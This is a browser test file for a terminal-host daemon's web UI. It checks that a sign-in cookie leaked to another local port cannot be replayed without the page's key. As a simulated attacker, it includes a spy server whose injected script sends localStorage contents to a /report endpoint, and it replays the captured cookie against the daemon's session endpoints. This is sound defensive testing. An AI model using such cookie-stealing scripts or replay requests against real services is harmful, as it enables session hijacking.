/**
 * The UI cookie is sent to every port of the host (issue 12 §4): browsers scope cookies by host, not by port, so a
 * web server that another local user runs on a loopback port receives the daemon's sign-in cookie whenever the
 * person's browser visits it. Real Chromium visits such a server; the cookie it receives is replayed against the
 * daemon, which must refuse it: a sign-in is the cookie plus the page key, and only the daemon's own pages can read
 * the key. The UI itself keeps working end to end with both.
 */
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import type { TermhostClient } from '../../src/client/TermhostClient.js';
import { focusTerminal, signIn, uiTestbed, waitPaneState, waitTerminal } from '../browser.js';
import { rawRequest, until, waitText, type TestDaemon } from '../helpers.js';

let d: TestDaemon;
let browser: Browser;
let agent: TermhostClient;
uiTestbed((bed) => ({ d, browser, agent } = bed));

/** Another user's web server on a loopback port: it keeps the Cookie headers it is sent and what its page can read. */
let spy: http.Server;
let spyPort = 0;
const received: { cookies: string[]; storage: string[] } = { cookies: [], storage: [] };
before(async () => {
  spy = http.createServer((req, res) => {
    if (req.headers.cookie) received.cookies.push(req.headers.cookie);
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/report') {
      received.storage.push(url.searchParams.get('key') ?? '(none)');
      res.end('ok');
      return;
    }
    res.setHeader('content-type', 'text/html');
    // Whatever its script can find of the daemon's sign-in: this origin's localStorage (not the daemon's).
    res.end(`<!doctype html><p>another server</p><script>fetch('/report?key=' + encodeURIComponent(String(localStorage.getItem('termhost-ui-key'))))</script>`);
  });
  await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve));
  spyPort = (spy.address() as AddressInfo).port;
});
after(async () => {
  await new Promise<void>((resolve) => spy.close(() => resolve()));
});

test('the cookie a server on another port receives is refused by the daemon, while the UI works end to end', async () => {
  const s = await agent.createSession({ command: ['bash', '--norc', '--noprofile', '-i'], env: { PS1: '$ ' }, cols: 80, rows: 20 });
  await waitText(d, s.id, '$');
  const person = await signIn(browser, d);
  const { page, context } = person;
  await page.locator(`tr[data-session="${s.id}"]`).waitFor();
  await page.locator('.stream[data-status="live"]').waitFor();

  // The person visits another local server in the same browser: it gets the daemon's cookie, but not the key.
  const other = await context.newPage();
  await other.goto(`http://127.0.0.1:${spyPort}/`);
  await until("the other page's script to report", () => received.storage.length > 0, 10_000);
  await other.close();
  const stolen = received.cookies.find((c) => c.includes(`termhost_ui_${d.address.split(':')[1]}=`));
  assert.ok(stolen, `the other port received the cookie (the premise of the attack); it got ${JSON.stringify(received.cookies)}`);
  assert.deepEqual(received.storage, ['null'], "the other origin's script cannot read the daemon page's key");

  // Replayed from another process, exactly as received: refused everywhere.
  for (const [method, path, body] of [
    ['GET', '/v1/sessions', undefined],
    ['GET', `/v1/sessions/${s.id}/screen`, undefined],
    ['GET', '/v1/events', undefined],
    ['POST', `/v1/sessions/${s.id}/input`, { input: [{ text: 'echo stolen' }, { key: 'Enter' }] }],
    ['POST', `/v1/sessions/${s.id}/attach-tokens`, { role: 'driver' }],
  ] as const) {
    const headers: Record<string, string> = { host: d.address, cookie: stolen, origin: `http://${d.address}` };
    if (body) headers['content-type'] = 'application/json';
    const r = await rawRequest(d.address, { method, path, headers, body: body && JSON.stringify(body) });
    assert.equal(r.status, 401, `${method} ${path}: ${r.status} ${r.text}`);
  }
  const me = await rawRequest(d.address, { path: '/ui/me', headers: { host: d.address, cookie: stolen } });
  assert.equal(me.status, 401);
  const key = await page.evaluate(() => localStorage.getItem('termhost-ui-key'));
  assert.match(String(key), /^[A-Za-z0-9_-]{43}$/, 'the page keeps its key in its own origin');
  assert.ok(!page.url().includes(String(key)) && !person.link.includes(String(key)), 'the key is in no URL');

  // The person's own page, meanwhile, does everything: live list, attach, typing, a reload, the event stream.
  await page.locator(`tr[data-session="${s.id}"] a.sid`).click();
  await waitPaneState(page, 'attached');
  await focusTerminal(page);
  await page.keyboard.type('echo page-$((40+2))');
  await page.keyboard.press('Enter');
  await waitTerminal(page, 'page-42');
  await page.reload();
  await waitPaneState(page, 'attached');
  await waitTerminal(page, 'page-42');
  const later = await agent.createSession({ command: ['sleep', '30'] });
  await page.goto(`http://${d.address}/ui/`);
  await page.locator(`tr[data-session="${later.id}"]`).waitFor();
  await page.locator('.stream[data-status="live"]').waitFor();
  // Signing out forgets the key as well as the cookie.
  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.locator('.signin').waitFor();
  assert.equal(await page.evaluate(() => localStorage.getItem('termhost-ui-key')), null);
  for (const id of [s.id, later.id]) await agent.deleteSession(id, 'KILL');
  await person.close();
});
